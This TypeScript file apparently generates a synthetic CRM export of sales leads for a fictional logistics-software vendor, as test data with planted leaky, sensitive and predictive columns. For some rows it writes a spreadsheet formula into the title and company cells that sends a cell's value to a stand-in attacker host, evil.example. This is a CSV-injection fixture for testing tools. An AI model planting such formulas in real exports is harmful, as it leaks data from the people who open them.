/**
 * Brassfern Software, a B2B software firm: its CRM export with planted drivers, leaks and sensitive fields.
 *
 * @example
 * const { files, truth } = generateSoftwareFirm({ seed: 1, leads: 4000, product: 'hubspot-en' });
 */
import {
  addDays,
  clientFile,
  createRandom,
  formatDate,
  formatMoney,
  formatNumber,
  type GeneratedClient,
  type Random,
  writeCsv,
} from '../generate/index.ts';
import { type Field, LAYOUTS, type Layout, type Product } from './layouts.ts';
import { type Lead, makeLeads } from './model.ts';
import type { Truth } from './truth.ts';

export { PRODUCTS, type Product } from './layouts.ts';
export type { LeadTruth, Truth } from './truth.ts';

export interface SoftwareFirmOptions {
  readonly seed: number;
  readonly leads: number;
  readonly product: Product;
  /** Default 2026-10-31. */
  readonly exportDay?: string;
  readonly signal?: 'real' | 'none';
  readonly leaks?: boolean;
  readonly decidedBy?: string;
  readonly shiftedFrom?: string;
}

const CONTEXT = `# Brassfern Software

Brassfern Software sells planning software for warehouses and delivery tours to firms with 20 to 1,000 employees in
Germany, Austria, Switzerland and the Netherlands. Customers are carriers, wholesalers and manufacturers with an own
fleet. A contract runs for three years and is worth about 9,000 euros a year.
`;

export const LEAKED: readonly Field[] = [
  'closed',
  'lossReason',
  'stageChance',
  'contract',
  'kickoff',
  'health',
  'lastTouch',
];
const SENSITIVE: readonly Field[] = ['salutation', 'born', 'nation'];
const DRIVERS: readonly Field[] = ['source', 'role', 'industry', 'budget', 'employees', 'demo', 'views', 'email'];
const IDLE: readonly Field[] = ['country', 'revenue', 'newsletter', 'campaign', 'amount', 'firstVisit'];

export function generateSoftwareFirm(options: SoftwareFirmOptions): GeneratedClient<Truth> {
  const {
    seed,
    leads: count,
    product,
    exportDay = '2026-10-31',
    signal = 'real',
    leaks = signal === 'real',
    shiftedFrom,
  } = options;
  const layout = LAYOUTS[product];
  const leads = makeLeads({ seed, leads: count, exportDay, signal, shiftedFrom });
  const shown = (lead: Lead) => (lead.decided > (options.decidedBy ?? exportDay) ? 'open' : lead.won ? 'won' : 'lost');
  const columns = layout.columns.filter(([field]) => leaks || !LEAKED.includes(field));
  const random = createRandom(seed, 'cells');
  const rows = leads.map((lead) => {
    const cells = cellsOf(lead, { shown: shown(lead), layout, random });
    return columns.map(([field]) => cells[field]);
  });
  const header = columns.map(([, name]) => name);
  const headersOf = (fields: readonly Field[]) =>
    fields.flatMap((field) => columns.filter(([one]) => one === field).map(([, name]) => name));
  return {
    name: 'software-firm',
    businessContext: CONTEXT,
    files: { leads: clientFile(layout.file, writeCsv([header, ...rows], layout.spelling), layout.about) },
    truth: {
      leads: leads.map((lead) => ({
        id: lead.id,
        probability: lead.probability,
        won: lead.won,
        created: lead.created,
        decided: lead.decided,
        shown: shown(lead),
      })),
      columns: {
        id: headersOf(['id'])[0]!,
        outcome: headersOf(['status'])[0]!,
        leaked: headersOf(LEAKED),
        sensitive: headersOf(SENSITIVE),
        drivers: headersOf(DRIVERS),
        idle: headersOf(IDLE),
      },
      baseRate: leads.reduce((sum, { probability }) => sum + probability, 0) / leads.length,
    },
  };
}

const GERMAN: Readonly<Record<string, string>> = {
  Referral: 'Empfehlung',
  'Organic search': 'Organische Suche',
  'Trade fair': 'Messe',
  'Paid search': 'Bezahlte Suche',
  'Cold outreach': 'Kaltakquise',
  Logistics: 'Logistik',
  Manufacturing: 'Fertigung',
  Wholesale: 'Großhandel',
  Retail: 'Einzelhandel',
  Healthcare: 'Gesundheitswesen',
  Agency: 'Agentur',
  'Public sector': 'Öffentlicher Dienst',
  'C-level': 'Geschäftsführung',
  'Head of department': 'Abteilungsleitung',
  Manager: 'Teamleitung',
  Specialist: 'Fachkraft',
  Student: 'Studium',
  German: 'Deutsch',
  English: 'Englisch',
  none: 'keiner',
  Austrian: 'Österreichisch',
  Swiss: 'Schweizerisch',
  Dutch: 'Niederländisch',
  British: 'Britisch',
  American: 'Amerikanisch',
  Polish: 'Polnisch',
  Turkish: 'Türkisch',
  Price: 'Preis',
  'No answer': 'Keine Antwort',
  'Chose a rival': 'Wettbewerber gewählt',
};

function cellsOf(
  lead: Lead,
  { shown, layout, random }: { shown: 'won' | 'lost' | 'open'; layout: Layout; random: Random },
): Record<Field, string> {
  const { locale, grouping, german } = layout;
  const say = (text: string) => (german ? (GERMAN[text] ?? text) : text);
  const number = (value: number, decimals?: number) => formatNumber(value, locale, { grouping, decimals });
  const day = (date: string) => formatDate(date, layout.dates);
  const event = (date: string) => day(date) + layout.clock;
  const bool = (value: boolean) => (value ? layout.yes : layout.no);
  const decided = shown !== 'open';
  // Drawn for every lead, so that a later state of the same leads differs in nothing but what was decided.
  const [openStatus, wait, late, reason] = [
    random.pick(layout.status.open),
    random.whole(1, 30),
    random.chance(0.85),
    random.pick(['Price', 'No answer', 'Chose a rival']),
  ];
  const [noise, owner, contract] = [
    random.normal(),
    random.pick(['M. Sander', 'T. Okoye', 'L. Brückner']),
    random.whole(10_000, 99_999),
  ];
  const formula = lead.at % 97 === 3;
  const title = formula ? `=HYPERLINK("http://evil.example/?"&A1,"${lead.company}")` : `${lead.company}, ${lead.role}`;
  return {
    id: lead.id,
    title,
    person: `${lead.person.first} ${lead.person.last}`,
    firstName: lead.person.first,
    lastName: lead.person.last,
    salutation: german ? (lead.person.female ? 'Frau' : 'Herr') : lead.person.female ? 'Ms.' : 'Mr.',
    born: day(lead.person.born),
    nation: say(lead.person.nation),
    company: formula ? `=HYPERLINK("http://evil.example/?"&A1,"${lead.company}")` : lead.company,
    email: lead.email,
    phone: lead.phone,
    owner,
    status: decided ? layout.status[shown] : openStatus,
    created: event(lead.created),
    closed: decided ? event(lead.decided) : '',
    lossReason: shown === 'lost' ? say(reason) : '',
    stageChance: number(
      shown === 'won' ? 100 : shown === 'lost' ? 0 : 20 + 20 * layout.status.open.indexOf(openStatus),
    ),
    contract: shown === 'won' ? `V-${contract}` : '',
    kickoff: shown === 'won' ? day(addDays(lead.decided, wait)) : '',
    health: number(shown === 'open' ? 50 + 6 * noise : shown === 'won' ? 72 + 9 * noise : 42 + 9 * noise, 1),
    lastTouch: day(decided ? addDays(lead.decided, late ? wait : -1) : addDays(lead.created, 1)),
    source: say(lead.source),
    industry: say(lead.industry),
    role: say(lead.role),
    country: lead.country,
    employees: number(lead.employees),
    revenue:
      lead.revenue === undefined
        ? ''
        : grouping
          ? formatMoney(lead.revenue, locale, german ? 'EUR' : 'USD')
          : number(lead.revenue),
    budget: lead.budget === undefined ? '' : bool(lead.budget),
    demo: bool(lead.demo),
    views: number(lead.views),
    newsletter: say(lead.newsletter),
    campaign: lead.campaign,
    amount: number(lead.amount, 2),
    firstVisit: day(lead.firstVisit),
    note: lead.at % 41 === 5 ? 'Call back,\n"after" the fair; ask for the tour plan' : '',
  };
}
